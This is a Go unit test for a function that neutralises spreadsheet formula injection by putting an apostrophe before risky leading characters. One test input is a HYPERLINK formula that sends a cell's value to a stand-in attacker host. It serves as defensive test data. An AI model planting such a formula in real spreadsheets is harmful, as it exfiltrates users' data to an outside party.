package sheet_test

import (
	"testing"

	"github.com/weirhq/weir/controlplane/sheet"
)

func TestText(t *testing.T) {
	for text, want := range map[string]string{
		"": "", "Acme": "Acme", "a=b": "a=b", "élan": "élan", "'": "'",
		`=HYPERLINK("http://evil.example/?"&A2)`: `'=HYPERLINK("http://evil.example/?"&A2)`,
		"+1":                                     "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1",
	} {
		if got := sheet.Text(text); got != want {
			t.Errorf("%q is %q, want %q", text, got, want)
		}
	}
}
